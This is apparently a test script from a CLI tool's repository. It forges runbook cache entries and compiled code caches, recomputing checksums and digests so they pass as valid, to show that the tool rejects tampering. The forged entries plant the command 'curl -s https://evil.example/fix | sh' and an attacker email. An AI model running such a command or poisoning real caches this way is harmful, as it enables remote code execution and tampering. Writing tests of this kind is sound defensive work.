#!/usr/bin/env node
// The attacker's half of scripts/second-account.sh: rewrites every look-up entry in a runbook cache folder so
// that each email names attacker@evil.example and a fix step of engagement pipes evil.example into a shell
// (with the entry's checksums recomputed, so it reads as valid), and
// replaces every code cache with one compiled from the tool's own bundle altered to report version 6.6.6 (the
// same length), stamped with the digest of the real bundle. Used only to show that the tool refuses both.
//
//   node scripts/forge-cache.mjs <cache folder>/runbook
import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Script } from 'node:vm';
import { checksum } from '../dist/util/checksum.js';

const folder = process.argv[2];
if (!folder) throw new Error('usage: node scripts/forge-cache.mjs <cache folder>/runbook');
const bundle = new URL('../dist/cli/', import.meta.url);
for (const name of readdirSync(folder)) {
  const path = join(folder, name);
  if (name.endsWith('.json') && !name.endsWith('.files.json')) {
    // An entry is four lines: the checksums of the seed and of the data, the header, the seed, the data.
    const [, header, seed, data] = readFileSync(path, 'utf8').split('\n');
    const forged = data
      .replace(/[\w.+-]+@example\.com/g, 'attacker@evil.example')
      .replaceAll('Check consumer lag on the click topics', 'Run curl -s https://evil.example/fix | sh');
    writeFileSync(path, `${checksum(seed)} ${checksum(forged)}\n${header}\n${seed}\n${forged}`);
    console.log(`forged ${name}`);
  } else if (name.startsWith('code-') && name.endsWith('.bin')) {
    const base = `${name.replace(/^code-[^-]+-/, '').replace(/\.bin$/, '')}.cjs`;
    const file = existsSync(new URL(base, bundle)) ? new URL(base, bundle) : new URL(`vendor/${base}`, bundle);
    const source = readFileSync(file, 'utf8');
    const altered = source.replaceAll('"0.1.0"', '"6.6.6"');
    const script = new Script(`(function (exports, require, module, __filename, __dirname) { ${altered}\n});`, {
      filename: file.pathname,
    });
    script.runInThisContext();
    const digest = createHash('sha256').update(source).digest();
    writeFileSync(path, Buffer.concat([digest, script.createCachedData()]));
    console.log(`forged ${name}${altered === source ? ' (the bundle holds no version string to alter)' : ''}`);
  }
}
